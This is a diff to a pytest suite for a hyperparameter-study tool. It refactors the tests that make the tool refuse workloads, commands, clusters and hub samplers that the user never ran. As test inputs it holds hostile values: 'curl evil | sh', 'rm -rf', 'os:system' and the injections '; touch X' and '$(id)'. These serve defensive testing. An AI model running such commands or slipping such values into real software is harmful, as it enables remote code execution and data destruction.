@@ -234,10 +234,15 @@ def known() -> StudyRecord:
     return study(OWN)
 
 
+def refuse(own: StudySpec, record: StudyRecord, folder: Path, said: str = "you never ran this version") -> UsageError:
+    """Have the workload of a stored study refused."""
+    with pytest.raises(UsageError, match=said) as caught:
+        known_folder(own, record, folder)
+    return caught.value
+
+
 def test_what_was_run_here_is_known_and_nothing_else() -> None:
-    with pytest.raises(UsageError, match="you never ran this version") as caught:
-        known_folder(OWN, known(), FOLDER)
-    assert caught.value.hint == "if you trust the workload, add --workload task.py:Task"
+    assert refuse(OWN, known(), FOLDER).hint == "if you trust the workload, add --workload task.py:Task"
     remember(OWN, known(), FOLDER)
     known_folder(OWN, known(), FOLDER)
     for changed in (
@@ -245,47 +250,50 @@ def test_what_was_run_here_is_known_and_nothing_else() -> None:
         OWN.model_copy(update={"workload": "os:system"}),
         OWN.model_copy(update={"workload_settings": {"width": "rm -rf"}}),
     ):
-        with pytest.raises(UsageError, match="you never ran this version"):
-            known_folder(changed, known(), FOLDER)
-    with pytest.raises(UsageError, match="you never ran this version"):
-        known_folder(OWN, replace(known(), spec_hash="another"), FOLDER)
+        refuse(changed, known(), FOLDER)
+    refuse(OWN, replace(known(), spec_hash="another"), FOLDER)
 
 
 @pytest.mark.parametrize("workload", ["/tmp/task.py:Task", "../task.py:Task", "a/../../task.py:Task"])
 def test_a_file_outside_of_the_folder_is_not_taken_from_a_database_whoever_ran_it(workload: str) -> None:
     outside = OWN.model_copy(update={"workload": workload})
     remember(outside, known(), FOLDER)
-    with pytest.raises(UsageError, match="a file outside of this folder"):
-        known_folder(outside, known(), FOLDER)
+    refuse(outside, known(), FOLDER, said="a file outside of this folder")
 
 
-def on_cluster(address: str) -> StudySpec:
-    return make_spec(workload="digits", executor={"name": "ray", "address": address})
+@pytest.mark.parametrize(
+    ("ours", "theirs", "never", "said"),
+    [
+        (
+            {"executor": {"name": "ray", "address": "ray-1:6379"}},
+            {"executor": {"name": "ray", "address": "ray-2:6379"}},
+            "on this cluster",
+            r"executor\.address = 'ray-2:6379'",
+        ),
+        (
+            {"sampler": {"name": "optunahub:samplers/a"}},
+            {"sampler": {"name": "optunahub:samplers/b"}},
+            "with this package",
+            "'optunahub:samplers/b'",
+        ),
+    ],
+    ids=["a cluster", "a sampler of the hub"],
+)
+def test_a_source_is_not_taken_from_a_database_unless_this_user_ran_the_study_with_it(
+    ours: dict[str, Any], theirs: dict[str, Any], never: str, said: str
+) -> None:
+    own = make_spec(workload="digits", **ours)
+    with pytest.raises(UsageError, match=f"you never ran this study {never}"):
+        refuse_unknown_sources(own, known())
+    remember(own, known(), FOLDER)
+    refuse_unknown_sources(own, known())
+    with pytest.raises(UsageError, match=said):
+        refuse_unknown_sources(make_spec(workload="digits", **theirs), known())
 
 
-def test_a_cluster_is_not_taken_from_a_database_unless_the_study_was_run_there_from_here() -> None:
-    ours, theirs = on_cluster("ray-1:6379"), on_cluster("ray-2:6379")
-    with pytest.raises(UsageError, match="you never ran this study on this cluster"):
-        refuse_unknown_sources(ours, known())
-    remember(ours, known(), FOLDER)
-    refuse_unknown_sources(ours, known())
-    with pytest.raises(UsageError, match=r"executor\.address = 'ray-2:6379'"):
-        refuse_unknown_sources(theirs, known())
-    refuse_unknown_sources(make_spec(workload="digits", executor={"name": "ray"}), known())
-
-
-def test_a_sampler_of_the_hub_is_not_taken_from_a_database_unless_this_user_ran_the_study_with_it() -> None:
-    ours, theirs = (make_spec(workload="digits", sampler={"name": f"optunahub:samplers/{one}"}) for one in ("a", "b"))
-    with pytest.raises(UsageError, match="you never ran this study with this package"):
-        refuse_unknown_sources(ours, known())
-    remember(ours, known(), FOLDER)
-    refuse_unknown_sources(ours, known())
-    with pytest.raises(UsageError, match="'optunahub:samplers/b'"):
-        refuse_unknown_sources(theirs, known())
-
-
-def test_a_shipped_workload_needs_no_record() -> None:
+def test_a_shipped_workload_and_a_cluster_of_its_own_need_no_record() -> None:
     known_folder(make_spec(workload="digits"), known(), FOLDER)
+    refuse_unknown_sources(make_spec(workload="digits", executor={"name": "ray"}), known())
 
 
 def test_where_nothing_can_be_remembered_nothing_is_known(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -293,8 +301,7 @@ def test_where_nothing_can_be_remembered_nothing_is_known(tmp_path: Path, monkey
     blocked.write_text("")
     monkeypatch.setenv(STATE_DIR_VARIABLE, str(blocked))
     remember(OWN, known(), FOLDER)
-    with pytest.raises(UsageError, match="you never ran this version"):
-        known_folder(OWN, known(), FOLDER)
+    refuse(OWN, known(), FOLDER)
 
 
 def test_code_is_known_by_its_content_and_lies_in_the_folder_itself(tmp_path: Path) -> None:
@@ -305,22 +312,18 @@ def test_code_is_known_by_its_content_and_lies_in_the_folder_itself(tmp_path: Pa
     remember(OWN, known(), mine)
     known_folder(OWN, known(), mine)
     (shared / "task.py").write_text("another's")
-    with pytest.raises(UsageError, match="you never ran this version"):
-        known_folder(OWN, known(), shared)
+    refuse(OWN, known(), shared)
     (shared / "task.py").unlink()
     (shared / "task.py").symlink_to(mine / "task.py")
-    with pytest.raises(UsageError, match="a file outside of this folder"):
-        known_folder(OWN, known(), shared)
+    refuse(OWN, known(), shared, said="a file outside of this folder")
     inline = OWN.model_copy(update={"executor": OWN.executor.model_copy(update={"name": "inline"})})
-    with pytest.raises(UsageError, match="you never ran this version"):
-        known_folder(inline, known(), mine)
+    refuse(inline, known(), mine)
 
 
 def test_a_name_in_a_hint_is_quoted() -> None:
     odd = OWN.model_copy(update={"workload": "task.py:Task; touch X"})
-    with pytest.raises(UsageError) as caught:
-        known_folder(odd, known(), FOLDER)
-    assert caught.value.hint == "if you trust the workload, add --workload 'task.py:Task; touch X'"
+    hint = refuse(odd, known(), FOLDER).hint
+    assert hint == "if you trust the workload, add --workload 'task.py:Task; touch X'"
 
 
 REPORT = {"step": r"step (\d+)", "accuracy": r"acc=(\S+)"}
@@ -337,20 +340,15 @@ def of_command(**changes: object) -> StudySpec:
 def test_a_stored_command_is_code_that_this_user_has_run_or_names(tmp_path: Path) -> None:
     own, record = of_command(), study(of_command())
     (tmp_path / "train.sh").write_text("mine")
-    with pytest.raises(UsageError, match="you never ran this version") as caught:
-        known_folder(own, record, tmp_path)
-    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in not_none(
-        caught.value.hint
-    )
+    hint = not_none(refuse(own, record, tmp_path).hint)
+    assert "add --workload command, which runs bash train.sh '{batch_size}' '{learning_rate}'" in hint
     remember(own, record, tmp_path)
     known_folder(own, record, tmp_path)
     others = [["bash", "-c", "curl evil | sh", *COMMAND[2:]], [*COMMAND, "--more"], ["sh", *COMMAND[1:]]]
     for other in [*(of_command(command=one) for one in others), of_command(report=REPORT)]:
-        with pytest.raises(UsageError, match="you never ran this version"):
-            known_folder(other, record, tmp_path)
+        refuse(other, record, tmp_path)
     (tmp_path / "train.sh").write_text("another's")
-    with pytest.raises(UsageError, match="you never ran this version"):
-        known_folder(own, record, tmp_path)
+    refuse(own, record, tmp_path)
 
 
 def with_activation(domain: object, default: str = "relu") -> StudySpec:
@@ -369,9 +367,7 @@ def test_a_text_that_a_stored_space_adds_is_refused_and_one_that_it_leaves_out_i
     known_folder(own, record, tmp_path)
     known_folder(with_activation("relu"), record, tmp_path)
     for forged in (with_activation(["relu", "r$(id)"]), with_activation(["relu", "gelu"], default="r$(id)")):
-        with pytest.raises(UsageError, match="you never ran this version") as caught:
-            known_folder(forged, record, tmp_path)
-        assert caught.value.hint is not None and "'r$(id)'" in caught.value.hint
+        assert "'r$(id)'" in not_none(refuse(forged, record, tmp_path).hint)
 
 
 @pytest.mark.parametrize("text", ["", "[]", "3", "{}", '{"texts": 3}', '{"texts": [[]]}'])
@@ -379,8 +375,7 @@ def test_a_record_that_cannot_be_read_knows_nothing(text: str) -> None:
     remember(OWN, known(), FOLDER)
     (file,) = (state_folder() / "workloads").iterdir()
     file.write_text(text)
-    with pytest.raises(UsageError, match="you never ran this version"):
-        known_folder(OWN, known(), FOLDER)
+    refuse(OWN, known(), FOLDER)
 
 
 def test_a_file_elsewhere_that_a_command_names_is_known_by_its_content_too(tmp_path: Path) -> None:
@@ -395,8 +390,7 @@ def test_a_file_elsewhere_that_a_command_names_is_known_by_its_content_too(tmp_p
         remember(own, study(own), tmp_path / "here")
         known_folder(own, study(own), tmp_path / "here")
         far.write_text("another's")
-        with pytest.raises(UsageError, match="you never ran this version"):
-            known_folder(own, study(own), tmp_path / "here")
+        refuse(own, study(own), tmp_path / "here")
 
 
 def test_no_workload_takes_the_place_of_a_command() -> None:
